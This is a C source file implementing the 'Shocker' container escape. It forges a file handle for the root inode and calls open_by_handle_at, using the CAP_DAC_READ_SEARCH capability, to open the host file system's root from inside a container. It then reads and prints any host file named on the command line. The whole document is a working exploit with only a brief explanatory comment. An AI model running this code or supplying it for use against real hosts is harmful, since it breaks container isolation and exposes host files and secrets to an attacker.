/*
 * "Shocker": from any file of a file system of the host, such as /etc/hosts of a container, all of that file system is in
 * reach with CAP_DAC_READ_SEARCH. `by-handle MOUNTED FILE` opens the root of the file system on which MOUNTED lies by its
 * handle and prints FILE, whose path is taken from there.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* ext4, xfs and others: number and generation of an inode; a generation of 0 fits every one (FILEID_INO32_GEN). */
#define FILEID_INO32_GEN 1
#define EXT4_ROOT_INO 2

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  unsigned inode[2] = {EXT4_ROOT_INO, 0};
  struct file_handle *handle = malloc(sizeof(*handle) + sizeof(inode));
  handle->handle_bytes = sizeof(inode);
  handle->handle_type = FILEID_INO32_GEN;
  memcpy(handle->f_handle, inode, sizeof(inode));
  int mounted = open(argv[1], O_RDONLY);
  int root = mounted < 0 ? -1 : open_by_handle_at(mounted, handle, O_RDONLY | O_DIRECTORY);
  if (root < 0) {
    puts(strerrorname_np(errno));
    return 1;
  }
  char text[4096];
  int file = openat(root, argv[2] + strspn(argv[2], "/"), O_RDONLY);
  ssize_t length = file < 0 ? -1 : read(file, text, sizeof(text));
  if (length < 0) {
    puts(strerrorname_np(errno));
    return 1;
  }
  return fwrite(text, 1, (size_t)length, stdout) == (size_t)length ? 0 : 1;
}
